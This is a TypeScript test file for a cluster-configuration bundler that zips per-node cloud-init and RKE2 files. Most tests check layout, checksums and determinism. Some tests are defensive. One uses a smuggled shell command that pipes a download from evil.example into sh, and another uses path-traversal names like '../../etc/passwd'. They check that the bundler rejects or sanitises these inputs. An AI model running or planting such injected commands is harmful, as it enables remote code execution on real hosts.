import JSZip from 'jszip';
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { haSite, largeSite, variant } from '../../test/siteFixtures.js';
import { parseSite } from '../site/createSite.js';
import { buildBundle } from './buildBundle.js';
import { MAX_SEGMENT_LENGTH, safeDevicePath, safeSegment } from './safeName.js';

async function entries(bytes: Uint8Array): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(bytes);
  const out = new Map<string, string>();
  for (const file of Object.values(zip.files)) out.set(file.name, await file.async('string'));
  return out;
}

describe('buildBundle', () => {
  it("lays out each node's files, site.json and a manifest of sha-256 sums", async () => {
    const result = await buildBundle(haSite(), { format: 'zip' });
    if (!result.ok) throw new Error(result.reason);
    const files = await entries(result.bytes);
    for (const name of ['cp-1', 'worker-2']) {
      for (const f of [
        'user-data',
        'meta-data',
        'README.txt',
        'device/etc/rancher/rke2/config.d/90_userdata.yaml',
        'device/etc/rancher/rke2/config.yaml',
        'device/usr/local/cloud-config/cluster.kairos.yaml',
      ]) {
        expect(files.has(`plant-7/${name}/${f}`), `${name}/${f}`).toBe(true);
      }
    }
    expect(files.get('plant-7/worker-2/README.txt')).toContain('systemctl status rke2-agent');
    const site = parseSite(files.get('plant-7/site.json')!);
    expect(site.ok && site.site).toEqual(haSite());
    const manifest = JSON.parse(files.get('plant-7/manifest.json')!) as { files: { path: string; sha256: string; size: number }[] };
    expect(manifest.files).toHaveLength(files.size - 1);
    for (const entry of manifest.files) {
      expect(createHash('sha256').update(files.get(entry.path)!, 'utf8').digest('hex'), entry.path).toBe(entry.sha256);
    }
  });

  it('gives the same bytes for the same site, in any time zone, cidata ISOs included', async () => {
    const site = haSite();
    const first = await buildBundle(site, { format: 'zip', iso: true });
    const previous = process.env['TZ'];
    process.env['TZ'] = 'Pacific/Kiritimati';
    const second = await buildBundle(structuredClone(site), { format: 'zip', iso: true });
    process.env['TZ'] = previous;
    expect(first.ok && second.ok).toBe(true);
    if (first.ok && second.ok) expect(Buffer.from(second.bytes).equals(Buffer.from(first.bytes))).toBe(true);
  });

  it('refuses a site with errors and lists them, unless forced', async () => {
    const broken = variant((s) => (s.cluster.token = 'short'));
    const refused = await buildBundle(broken, { format: 'zip' });
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(refused.reason).toContain('cluster.token: the cluster token has 5 characters');
    expect((await buildBundle(broken, { format: 'zip', force: true })).ok).toBe(true);
  });

  it('reports progress from 0 to 100 %, never going back', async () => {
    const seen: number[] = [];
    await buildBundle(haSite(), { format: 'zip', onProgress: (p) => seen.push(p) });
    expect(seen[0]).toBe(0);
    expect(seen.at(-1)).toBe(100);
    expect(seen.every((p, i) => i === 0 || p >= seen[i - 1]!)).toBe(true);
  });

  it('refuses a site with an unsafe value even when forced', async () => {
    const site = variant((s) =>
      Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }),
    );
    const result = await buildBundle(site, { format: 'zip', force: true });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.reason).toMatch(/unsafe value.*even when forced[\s\S]*airGap\.imagesPath/);
  });

  it('keeps hostile names inside their folder', async () => {
    const hostile = [
      '../../etc/passwd',
      'a/b\\c',
      'tab and space',
      'site.json',
      'MANIFEST.json',
      'ünïcødé-名前',
      'x'.repeat(300),
      '.',
      '..',
      '',
      '.hidden',
    ];
    const site = variant((s) => {
      s.name = '../../../evil site';
      s.nodes = hostile.map((name, i) => ({
        ...s.nodes[Math.min(i, 4)]!,
        name,
        hostname: `host-${i}`,
        role: i === 0 ? 'init' : 'worker',
        address: `192.168.1.${30 + i}/24`,
      }));
    });
    const result = await buildBundle(site, { format: 'zip', force: true, iso: true });
    if (!result.ok) throw new Error(result.reason);
    const names = [...(await entries(result.bytes)).keys()];
    expect(names.filter((n) => n.endsWith('/cidata.iso'))).toHaveLength(hostile.length);
    const root = names[0]!.split('/')[0]!;
    expect(root).not.toContain('..');
    const folders = new Set(names.map((n) => n.split('/')[1]));
    expect(folders.size).toBe(hostile.length + 2);
    for (const name of names) {
      expect(name.startsWith(`${root}/`)).toBe(true);
      expect(
        name
          .split('/')
          .every(
            (seg) =>
              seg !== '..' && seg !== '.' && seg !== '' && seg.length <= MAX_SEGMENT_LENGTH && /^[A-Za-z0-9_][A-Za-z0-9._-]*$/.test(seg),
          ),
        name,
      ).toBe(true);
    }
  });

  it('bundles a 1,000-node site', async () => {
    const result = await buildBundle(largeSite(1000), { format: 'zip' });
    expect(result.ok).toBe(true);
    if (result.ok) expect((await JSZip.loadAsync(result.bytes)).file(/user-data$/)).toHaveLength(1000);
  }, 120_000);
});

describe('safe names', () => {
  it('keeps valid names and marks changed ones with a hash so two never collide', () => {
    expect(safeSegment('worker-1', 'n')).toBe('worker-1');
    expect(safeSegment('a/b', 'n')).not.toBe(safeSegment('a\\b', 'n'));
    expect(safeSegment('..', 'n')).toBe('n');
    expect(safeDevicePath('/etc/rancher/../rke2/config.yaml')).toBe('etc/rancher/rke2/config.yaml');
  });
});
